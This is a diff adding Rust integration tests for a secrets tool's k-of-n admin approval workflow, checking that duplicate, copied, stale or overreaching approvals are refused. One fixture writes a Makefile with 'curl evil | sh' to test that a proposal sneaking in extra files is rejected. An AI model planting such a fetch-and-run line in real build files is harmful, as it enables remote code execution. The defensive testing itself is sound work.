@@ -1,0 +1,221 @@
+//! k-of-n approvals (ADR 0012): with a threshold of 2, one admin's change is
+//! a proposal that does not land; a second, distinct admin's approval lands
+//! it; the same admin twice does not; an approval made for other bytes does
+//! not count, on approval and on every later read; stale proposals and
+//! proposals touching other files are refused.
+
+mod common;
+
+use std::fs;
+
+use common::*;
+
+/// alice, bob and carol are admins and readers of `prod`; thresholds are
+/// 2 for recipients and values. `prod` holds DB = PROD_DB.
+fn three_admins_k2() -> (World, Person, Person) {
+    let w = World::new();
+    w.set("prod", "DB", PROD_DB);
+    let bob = keygen(&w.root, "bob");
+    let carol = keygen(&w.root, "carol");
+    add_admin(&w, &bob);
+    add_admin(&w, &carol);
+    let o = w.rotate(&[
+        "--add",
+        &format!("bob={}", bob.recipient),
+        "--add",
+        &format!("carol={}", carol.recipient),
+    ]);
+    assert_ok(&o, "rotate --add bob carol");
+    let o = w.alice_run(&["admin", "thresholds", "--recipients", "2", "--values", "2"]);
+    assert_ok(&o, "admin thresholds");
+    assert_stderr_contains(&o, "needs 2 admins", "thresholds explain proposals");
+    (w, bob, carol)
+}
+
+fn proposal_branches(w: &World) -> Vec<String> {
+    w.git_ok(
+        &w.proj,
+        &[
+            "for-each-ref",
+            "--format=%(refname:short)",
+            "refs/heads/byreis/proposal/",
+        ],
+    )
+    .lines()
+    .map(str::to_string)
+    .collect()
+}
+
+/// alice sets prod DB to `value`: a proposal. Returns its branch.
+fn propose_set(w: &World, value: &str) -> String {
+    let before = proposal_branches(w);
+    let o = w.alice_run_stdin(&["set", "prod", "DB"], &format!("{value}\n"));
+    assert_ok(&o, "set with k = 2");
+    assert_stderr_contains(&o, "proposed, not landed", "set with k = 2");
+    let after = proposal_branches(w);
+    let new: Vec<&String> = after.iter().filter(|b| !before.contains(b)).collect();
+    assert_eq!(new.len(), 1, "one new proposal branch: {after:?}");
+    new[0].clone()
+}
+
+fn approve(w: &World, who: &Person, branch: &str) -> std::process::Output {
+    w.run_as(who, &["approve", branch, "--yes"])
+}
+
+fn approvals_file(w: &World) -> std::path::PathBuf {
+    w.proj.join(".byreis/approvals.sig")
+}
+
+fn blocks(text: &str) -> Vec<String> {
+    let end = "-----END SSH SIGNATURE-----";
+    text.split_inclusive(end)
+        .filter(|b| b.contains(end))
+        .map(|b| format!("{}\n", b.trim_start()))
+        .collect()
+}
+
+#[test]
+fn two_distinct_admins_land_a_change_one_does_not() {
+    let (w, bob, carol) = three_admins_k2();
+    let (proj_before, reg_before) = w.heads();
+    let branch = propose_set(&w, "new-db-value-1");
+    // Nothing landed: same heads, same value, doctor clean.
+    assert_eq!(w.heads(), (proj_before.clone(), reg_before.clone()));
+    w.assert_get("prod", "DB", PROD_DB);
+    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
+    assert_doctor_ok(&o, &v, "doctor while a proposal waits");
+    // The proposer approving again does not count.
+    let o = w.alice_run(&["approve", &branch, "--yes"]);
+    assert_failed(&o, "alice approves her own proposal");
+    assert_stderr_contains(&o, "already approved", "alice approves twice");
+    assert_eq!(w.heads(), (proj_before.clone(), reg_before.clone()));
+
+    // bob reviews (names, masked values) and approves: it lands.
+    let o = approve(&w, &bob, &branch);
+    assert_ok(&o, "bob approves");
+    assert_stderr_contains(&o, "prod: changed: DB", "bob sees the name-level change");
+    assert_stderr_contains(&o, "values are masked", "values masked by default");
+    assert_no_leak(&o, &["new-db-value-1", PROD_DB], "bob's approval output");
+    assert_stderr_contains(&o, "landed", "bob's approval lands it");
+    w.assert_get("prod", "DB", "new-db-value-1");
+    let o = w.run_as(&carol, &["get", "prod", "DB"]);
+    assert_ok(&o, "carol reads the landed value");
+    assert_eq!(stdout(&o), "new-db-value-1\n");
+    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
+    assert_doctor_ok(&o, &v, "doctor after landing");
+    assert!(proposal_branches(&w).is_empty(), "landed branch deleted");
+    // Two approvals in the landed state, stock-verifiable commits.
+    let text = fs::read_to_string(approvals_file(&w)).unwrap();
+    assert_eq!(
+        blocks(&text).len(),
+        2,
+        "alice's and bob's approvals:\n{text}"
+    );
+    let o = w.verify_commit(&w.proj, "HEAD");
+    assert_ok(&o, "git verify-commit of the landed change");
+    assert_stderr_contains(&o, "bob", "bob signed the landing commit");
+    let msg = w.git_ok(&w.proj, &["log", "-1", "--format=%B"]);
+    assert!(msg.contains("approved by alice, bob"), "{msg}");
+    // The registry's keyless CI check accepts it (one admin signs records).
+    let o = run(
+        &w.alice.home,
+        &w.reg,
+        &["registry", "verify", "--anchor", &w.anchor],
+        None,
+    );
+    assert_ok(&o, "registry verify after an approved change");
+
+    // Recipient changes need two admins as well.
+    let o = w.rotate(&["--remove", "carol"]);
+    assert_ok(&o, "rotate with k = 2");
+    assert_stderr_contains(&o, "proposed, not landed", "rotate with k = 2");
+    let o = w.run_as(&carol, &["get", "prod", "DB"]);
+    assert_ok(&o, "carol still reads before the removal lands");
+    let branch = proposal_branches(&w).pop().expect("rotation proposal");
+    let o = approve(&w, &bob, &branch);
+    assert_ok(&o, "bob approves the removal");
+    assert_stderr_contains(&o, "readers removed: carol", "bob sees the reader change");
+    let o = w.run_as(&carol, &["get", "prod", "DB"]);
+    assert_refused(&o, &["identity-not-recipient"], "carol after removal");
+}
+
+#[test]
+fn approvals_that_do_not_match_the_manifest_never_count() {
+    let (w, bob, carol) = three_admins_k2();
+    // P0: alice proposes, bob approves: landed. bob's approval of P0 is kept.
+    let p0 = propose_set(&w, "value-p0");
+    assert_ok(&approve(&w, &bob, &p0), "bob approves p0");
+    let p0_text = fs::read_to_string(approvals_file(&w)).unwrap();
+    let p0_blocks = blocks(&p0_text);
+    assert_eq!(p0_blocks.len(), 2);
+    let bob_p0 = p0_blocks[1].clone();
+
+    // P1: bob's old approval copied into it does not count for carol's
+    // review, and is left out of what lands.
+    let p1 = propose_set(&w, "value-p1");
+    w.git_ok(&w.proj, &["checkout", "-q", &p1]);
+    let alice_p1 = fs::read_to_string(approvals_file(&w)).unwrap();
+    fs::write(approvals_file(&w), format!("{alice_p1}{bob_p0}")).unwrap();
+    w.git_ok(&w.proj, &["commit", "-q", "-a", "-m", "copy an approval"]);
+    w.git_ok(&w.proj, &["checkout", "-q", "main"]);
+    let o = approve(&w, &carol, &p1);
+    assert_ok(&o, "carol approves p1");
+    assert_stderr_contains(
+        &o,
+        "approved so far by alice (1 of 2",
+        "bob's copy not counted",
+    );
+    assert_stderr_contains(
+        &o,
+        "1 approval(s) in it do not verify",
+        "void approval named",
+    );
+    w.assert_get("prod", "DB", "value-p1");
+    let landed = fs::read_to_string(approvals_file(&w)).unwrap();
+    assert!(!landed.contains(bob_p0.trim()), "void approval dropped");
+
+    // On every read: a landed state whose approvals are the same admin
+    // twice, or an approval of other bytes, is refused.
+    let lb = blocks(&landed);
+    assert_eq!(lb.len(), 2, "alice and carol");
+    for (what, text) in [
+        ("the same admin twice", format!("{}{}", lb[0], lb[0])),
+        ("an approval of other bytes", format!("{}{bob_p0}", lb[0])),
+        ("no approval but the proposer's", lb[0].clone()),
+    ] {
+        fs::write(approvals_file(&w), &text).unwrap();
+        w.assert_reads_refused(&["manifest-invalid"], &["value-p1"], what);
+    }
+    fs::write(approvals_file(&w), &landed).unwrap();
+    w.assert_get("prod", "DB", "value-p1");
+}
+
+#[test]
+fn stale_and_overreaching_proposals_are_refused() {
+    let (w, bob, carol) = three_admins_k2();
+    let p1 = propose_set(&w, "value-1");
+    let p2 = propose_set(&w, "value-2");
+    // A proposal whose branch also changes another file.
+    w.git_ok(&w.proj, &["checkout", "-q", &p2]);
+    fs::write(w.proj.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
+    w.git_ok(&w.proj, &["add", "Makefile"]);
+    w.git_ok(&w.proj, &["commit", "-q", "-m", "sneak"]);
+    w.git_ok(&w.proj, &["checkout", "-q", "main"]);
+    let heads = w.heads();
+    let o = approve(&w, &bob, &p2);
+    assert_failed(&o, "approve a proposal that touches Makefile");
+    assert_stderr_contains(&o, "more than .byreis/approvals.sig", "names the overreach");
+    assert_eq!(w.heads(), heads, "nothing changed");
+    // p1 lands; p2 was made on the old state: stale.
+    assert_ok(&approve(&w, &bob, &p1), "bob approves p1");
+    w.assert_get("prod", "DB", "value-1");
+    let heads = w.heads();
+    let o = approve(&w, &carol, &p2);
+    assert_failed(&o, "approve a stale proposal");
+    assert_stderr_contains(&o, "stale", "stale named");
+    assert_eq!(w.heads(), heads, "nothing changed");
+    // Not a proposal branch at all.
+    let o = approve(&w, &carol, "main");
+    assert_failed(&o, "approve main");
+    assert_stderr_contains(&o, "not a proposal branch", "approve main");
+}
